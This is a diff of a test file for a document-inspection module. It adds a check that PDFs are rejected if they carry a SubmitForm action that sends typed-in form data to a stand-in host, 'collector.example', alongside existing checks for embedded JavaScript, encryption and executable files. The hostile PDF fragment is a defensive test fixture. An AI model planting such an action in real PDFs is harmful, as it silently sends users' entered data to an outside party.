@@ -77,8 +77,10 @@ describe('inspection of documents', () => {
   it('refuses an encrypted PDF', async () => {
     expect(await refusal(pdf(1, sentence, '/Encrypt 99 0 R'))).toBe('FILE_ENCRYPTED');
   });
-  it('refuses a PDF that runs scripts', async () => {
+  it('refuses a PDF that runs scripts or sends what is typed into it', async () => {
     expect(await refusal(pdf(1, sentence, '/OpenAction << /S /JavaScript /JS (app.alert) >>'))).toBe('FILE_REJECTED');
+    const sends = '/AA << /WC << /S /SubmitForm /F (http://collector.example) >> >>';
+    expect(await refusal(pdf(1, sentence, sends))).toBe('FILE_REJECTED');
   });
   it('refuses what is no document, whatever it is called', async () => {
     expect(await refusal(Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0]))).toBe('FILE_TYPE');
